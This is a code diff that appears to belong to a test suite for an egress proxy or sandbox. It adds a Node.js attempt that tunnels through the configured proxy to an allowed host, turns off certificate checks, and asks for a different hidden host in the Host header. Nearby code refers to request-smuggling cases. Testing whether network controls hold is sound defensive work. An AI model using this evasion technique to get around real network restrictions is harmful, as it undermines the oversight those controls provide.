@@ -342,6 +342,23 @@ const target = ({ world }: Scene): string => `api.example.test:${world.ports.web
 const head = (scene: Scene): string =>
   `POST http://${target(scene)}/${scene.token} HTTP/1.1\r\nHost: ${target(scene)}\r\n`;
 
+/** What nobody sees who does not open the tunnel: the one exception, and it is named. */
+export const hidden: Attempt = {
+  ...secure('hidden-host', 'asks an allowed server, under its own name and certificate, for another host', 'good'),
+  program: node(
+    (scene) => `
+      const { host: proxyHost, port: proxyPort } = (({ hostname, port }) => ({ host: hostname, port }))(new URL(process.env.HTTP_PROXY));
+      const place = 'api.example.test:${scene.world.ports.good}';
+      const socket = require('net').connect(proxyPort, proxyHost, () => socket.write('CONNECT ' + place + ' HTTP/1.1\\r\\nHost: ' + place + '\\r\\n\\r\\n'));
+      socket.once('data', () => {
+        const tls = require('tls').connect({ socket, rejectUnauthorized: false, servername: 'api.example.test' }, () =>
+          tls.write('GET /${scene.token} HTTP/1.1\\r\\nHost: hidden.example.test\\r\\n\\r\\n'));
+        tls.once('data', () => process.exit()).on('error', () => process.exit()); });
+      setTimeout(() => process.exit(), 5000);`,
+  ),
+  escaped: ({ heard }) => heard.includes('Host: hidden.example.test'),
+};
+
 /** Requests that mean one thing here and another there. */
 export const smuggled: readonly Attempt[] = [
   smuggle(
